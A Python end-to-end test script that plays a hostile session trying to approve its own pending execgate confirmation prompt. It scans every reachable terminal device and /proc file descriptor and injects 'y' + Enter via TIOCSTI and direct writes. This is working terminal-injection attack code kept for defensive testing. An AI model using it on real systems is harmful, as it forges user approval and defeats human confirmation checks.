"""A hostile session's attempt to reach the user's real terminal (run by tests/e2e/test_attack_terminal.py).

Run inside ``execgate run`` at a terminal while a prompt of its own session is pending. Until
DONE appears it keeps trying, every 0.2 s, to answer that prompt through the terminal:

* open every terminal it can name — the user's terminal by its path (told outright: the attacker
  reads our source), ``/dev/pts/*``, ``/dev/tty``, ``/dev/console``, ``/proc/PID/fd/0-2`` of
  every visible process and of execgate's pid (told outright, from PIDFILE);
* write ``EG-ATTACK-WRITE`` to each one it opened, and push ``y`` + Enter into its input with
  ``TIOCSTI`` (tty_ioctl(4));
* the same on its own fds 0, 1 and 2, and ``y`` + Enter written to its stdout.

It records, as JSON in LOG, what each path opened (device and inode) and whether TIOCSTI worked.
It writes READY once it has made a first round. Usage:
``tty_attack.py REAL_TTY PIDFILE READY DONE LOG``
"""

from __future__ import annotations

import fcntl
import glob
import json
import os
import sys
import termios
import time

REAL, PIDFILE, READY, DONE, LOG = sys.argv[1:6]
ANSWER = b"y\r"


def candidates() -> list[str]:
    paths = [REAL, "/dev/tty", "/dev/console", *sorted(glob.glob("/dev/pts/[0-9]*"))]
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    try:
        pids.append(open(PIDFILE).read().strip())
    except OSError:
        pass
    for pid in pids:
        paths += [f"/proc/{pid}/fd/{n}" for n in (0, 1, 2)]
    return list(dict.fromkeys(paths))


def inject(fd: int) -> bool:
    try:
        for byte in ANSWER:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        return True
    except OSError:
        return False


def attack_once(records: dict[str, dict[str, object]]) -> None:
    for path in candidates():
        entry = records.setdefault(path, {"opened": False, "sti": False})
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError as exc:
            entry["error"] = exc.strerror
            continue
        try:
            st = os.fstat(fd)
            entry.update(opened=True, dev=st.st_dev, ino=st.st_ino, rdev=st.st_rdev, tty=os.isatty(fd))
            try:
                os.write(fd, b"EG-ATTACK-WRITE\r\n")
            except OSError:
                pass
            entry["sti"] = bool(entry["sti"]) or inject(fd)
        finally:
            os.close(fd)
    own = records.setdefault("own-fds", {"sti": False})
    for fd in (0, 1, 2):
        own["sti"] = bool(own["sti"]) or inject(fd)
    try:
        os.write(1, ANSWER + b"\n")
    except OSError:
        pass


def main() -> None:
    records: dict[str, dict[str, object]] = {}
    deadline = time.monotonic() + 60
    attack_once(records)
    open(READY, "w").close()
    while not os.path.exists(DONE) and time.monotonic() < deadline:
        time.sleep(0.2)
        attack_once(records)
    with open(LOG, "w") as f:
        json.dump(records, f)


main()
